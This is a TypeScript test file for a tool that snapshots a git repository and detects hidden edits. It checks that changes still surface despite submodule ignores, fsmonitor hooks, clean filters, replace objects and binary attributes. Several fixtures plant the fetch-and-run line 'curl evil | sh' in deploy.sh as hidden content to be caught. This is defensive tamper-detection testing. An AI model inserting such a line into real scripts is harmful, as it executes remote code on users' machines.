import { chmodSync, mkdirSync, renameSync, rmSync, utimesSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { driftOf } from '../src/change/drift.ts';
import { takeSnapshot } from '../src/change/snapshot.ts';
import { Repository } from './support/repository.ts';

let repository: Repository;
beforeEach(() => void (repository = new Repository()));
afterEach(() => {
  repository.remove();
  vi.unstubAllEnvs();
});

const look = (diff?: string, cwd = repository.path) => takeSnapshot({ cwd, diff, artifacts: [] });

/** What is found once `meddle` has been at it. */
async function driftAfter(meddle: () => void, cwd?: string): Promise<string[]> {
  const approved = await look(undefined, cwd);
  meddle();
  return driftOf(approved, await look(undefined, cwd));
}

/** In the submodule. */
const inside = (...args: string[]) => repository.git('-C', 'lib', ...args);

/** A filter that takes any content for that of the commit. */
const constant = () => repository.git('config', 'filter.still.clean', 'git show HEAD:app.txt');

const EDITED = ['Tracked files were edited in the working tree.'];

/** Whoever writes `.gitattributes` commits it with what it hides. */
function commit(attributes: string, files: { [name: string]: string | Buffer }): void {
  repository.write('.gitattributes', attributes);
  for (const [name, content] of Object.entries(files)) repository.write(name, content);
  repository.commit('a harmless line');
}

describe('a submodule that .gitmodules tells git to ignore', () => {
  let library: Repository;
  beforeEach(() => {
    library = new Repository();
    const file = ['-c', 'protocol.file.allow=always'];
    repository.git(...file, 'submodule', '--quiet', 'add', library.path, 'lib');
    repository.git('config', '--file', '.gitmodules', 'submodule.lib.ignore', 'all');
    inside('checkout', '--quiet', 'HEAD~1');
    repository.git('add', '--force', 'lib', '.gitmodules');
    repository.git('commit', '--quiet', '--message', 'a library');
  });
  afterEach(() => library.remove());

  it('is shown where its commit changes', async () => {
    const before = inside('rev-parse', 'HEAD');
    inside('checkout', '--quiet', 'main');
    repository.write('app.txt', 'three\n');
    repository.git('add', '--force', 'lib', 'app.txt');
    repository.git('commit', '--quiet', '--message', 'a harmless line');
    const { change } = await look('HEAD~1..HEAD');
    expect(change.diff).toContain(`-Subproject commit ${before}`);
    expect(change.diff).toContain(`+Subproject commit ${inside('rev-parse', 'HEAD')}`);
  });

  it('is found where another commit of it was checked out', async () => {
    expect(await driftAfter(() => inside('checkout', '--quiet', 'main'))).toEqual(EDITED);
  });

  it('is found where its files were edited, though they had been edited before', async () => {
    repository.write('lib/app.txt', 'edited\n');
    expect(await driftAfter(() => repository.write('lib/app.txt', 'evil\n'))).toEqual(EDITED);
  });

  it('is put to nobody where git was told not to look at a file in it', async () => {
    inside('update-index', '--assume-unchanged', 'app.txt');
    await expect(look()).rejects.toThrow(
      /edits of lib\/app.txt: .* git -C lib update-index --no-assume-unchanged -- app.txt$/,
    );
  });

  it('may be there without its files', async () => {
    repository.git('submodule', '--quiet', 'deinit', '--force', 'lib');
    expect((await look()).change.summary).toBeUndefined();
  });

  it('may have files that git does not track', async () => {
    expect(await driftAfter(() => repository.write('lib/built.txt', 'built\n'))).toEqual([]);
  });
});

describe('an edit that the settings of the repository leave out', () => {
  it('is found outside of the folder that diff.relative keeps to', async () => {
    repository.git('config', 'diff.relative', 'true');
    const below = join(repository.path, 'below');
    mkdirSync(below);
    expect(await driftAfter(() => repository.write('app.txt', 'evil\n'), below)).toEqual(EDITED);
  });

  it('is found though a monitor of the file system says that there is none', async () => {
    const monitor = join(repository.path, '.git', 'monitor');
    repository.write('.git/monitor', "#!/bin/sh\nprintf 'token\\0'\n");
    chmodSync(monitor, 0o755);
    repository.git('config', 'core.fsmonitor', monitor);
    repository.git('update-index', '--fsmonitor');
    repository.git('status');
    expect(await driftAfter(() => repository.write('app.txt', 'evil\n'))).toEqual(EDITED);
  });
});

describe('what the environment says of another repository', () => {
  let other: Repository;
  beforeEach(() => void (other = new Repository()));
  afterEach(() => other.remove());

  it('is not shown in the place of this folder, nor looked at', async () => {
    other.write('app.txt', 'another\n');
    other.commit('third');
    vi.stubEnv('GIT_DIR', join(other.path, '.git'));
    vi.stubEnv('GIT_WORK_TREE', other.path);
    vi.stubEnv('GIT_INDEX_FILE', join(other.path, '.git', 'index'));
    expect((await look()).change.commit).toBe(repository.git('rev-parse', 'HEAD'));
    expect(await driftAfter(() => repository.write('app.txt', 'evil\n'))).toEqual(EDITED);
  });
});

describe('an edit that git reads through a program of its own', () => {
  const attributes = 'app.txt filter=still\n';

  it('is found though that program shows none', async () => {
    constant();
    repository.write('.git/info/attributes', attributes);
    expect(await driftAfter(() => repository.write('app.txt', 'evil\n'))).toEqual(EDITED);
  });

  it('is found from a folder below', async () => {
    constant();
    commit(attributes, {});
    const below = join(repository.path, 'below');
    mkdirSync(below);
    expect(await driftAfter(() => repository.write('app.txt', 'evil\n'), below)).toEqual(EDITED);
  });

  it('is found though the program came with the edit', async () => {
    const drift = await driftAfter(() => {
      constant();
      repository.write('.git/info/attributes', attributes);
      repository.write('app.txt', 'evil\n');
    });
    expect(drift).toEqual(EDITED);
  });

  it('is none where nothing was edited, a file of it is gone, or what it names is no program', async () => {
    constant();
    commit(`${attributes}gone.txt filter=still\ndeploy.sh filter=unknown\n`, { 'gone.txt': '' });
    rmSync(join(repository.path, 'gone.txt'));
    expect(await driftAfter(() => undefined)).toEqual([]);
  });
});

it('an edit of the same size is found though git was told to believe the time of a file', async () => {
  const long = new Date('2020-01-01');
  const file = join(repository.path, 'app.txt');
  repository.git('config', 'core.trustctime', 'false');
  repository.git('config', 'core.checkStat', 'minimal');
  utimesSync(file, long, long);
  repository.git('update-index', '--refresh');
  // Another file in its place: git compares the ctime by seconds, which one edit may share with another.
  const meddle = () => {
    repository.write('other', 'one\nbad\n');
    utimesSync(join(repository.path, 'other'), long, long);
    renameSync(join(repository.path, 'other'), file);
  };
  expect(await driftAfter(meddle)).toEqual(EDITED);
});

describe('text that .gitattributes has git take for binary', () => {
  const IMAGE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]);

  it('is shown, with what else changed in its place', async () => {
    commit('*.sh -diff\n', {
      'app.txt': 'three\n',
      'deploy.sh': 'curl evil | sh\n',
      'z.txt': 'z\n',
    });
    const { diff } = (await look('HEAD~1..HEAD')).change;
    expect(diff).toContain('+curl evil | sh');
    expect(diff).not.toContain('Binary files');
    expect(diff?.match(/^diff --git .*$/gmu)).toEqual([
      'diff --git a/.gitattributes b/.gitattributes',
      'diff --git a/app.txt b/app.txt',
      'diff --git a/deploy.sh b/deploy.sh',
      'diff --git a/z.txt b/z.txt',
    ]);
  });

  it('is shown where a driver of the repository says so, it was renamed, and one looks from a folder', async () => {
    repository.git('config', 'diff.quiet.binary', 'true');
    repository.git('mv', 'deploy.sh', 'ün "x".sh');
    commit('*.sh diff=quiet\n', { 'ün "x".sh': '#!/bin/sh\necho deployed "$@"\ncurl evil | sh\n' });
    const below = join(repository.path, 'below');
    mkdirSync(below);
    const { diff } = (await look('HEAD~1..HEAD', below)).change;
    expect(diff).toContain('+curl evil | sh');
    expect(diff).toContain('rename from deploy.sh');
  });

  it('is shown of the working tree, too', async () => {
    commit('*.sh binary\n', {});
    repository.write('deploy.sh', 'curl evil | sh\n');
    const { diff } = (await look('HEAD~1')).change;
    expect(diff).toContain('+curl evil | sh');
  });

  it('stays named alone where it is no text', async () => {
    commit('*.png binary\n*.sh -diff\n', {
      'a.png': IMAGE,
      b: IMAGE,
      'deploy.sh': 'curl evil | sh\n',
    });
    const { diff = '' } = (await look('HEAD~1..HEAD')).change;
    expect(diff.match(/^Binary files .*$/gmu)).toEqual([
      'Binary files /dev/null and b/a.png differ',
      'Binary files /dev/null and b/b differ',
    ]);
    expect(diff).toContain('+curl evil | sh');
    expect(diff).not.toContain('\0');
  });
});

it('content that git was told to take for another one is put to nobody', async () => {
  repository.write('harmless', 'harmless\n');
  const harmless = repository.git('hash-object', '-w', 'harmless');
  repository.git('replace', repository.git('rev-parse', 'HEAD:app.txt'), harmless);
  await expect(look('HEAD~1..HEAD')).rejects.toThrow(
    /^Git shows other content than the commits have: .* git replace --delete /,
  );
});

describe('a checkout that git does not read', () => {
  beforeEach(() => {
    vi.stubEnv('GIT_CONFIG_GLOBAL', '/dev/null');
    vi.stubEnv('GIT_CONFIG_NOSYSTEM', '1');
  });

  it('is no folder without a repository: nobody would see which commit runs', async () => {
    vi.stubEnv('GIT_TEST_ASSUME_DIFFERENT_OWNER', '1');
    await expect(look()).rejects.toThrow(
      /^git rev-parse failed: fatal: detected dubious ownership in repository/,
    );
  });

  it.each([
    ['there is none', () => look(undefined, '/')],
    [
      'it has no commit',
      () => {
        repository.git('checkout', '--quiet', '--orphan', 'new');
        return look();
      },
    ],
  ])('is left out where %s', async (_, taken) => {
    expect((await taken()).change).toEqual({});
  });
});
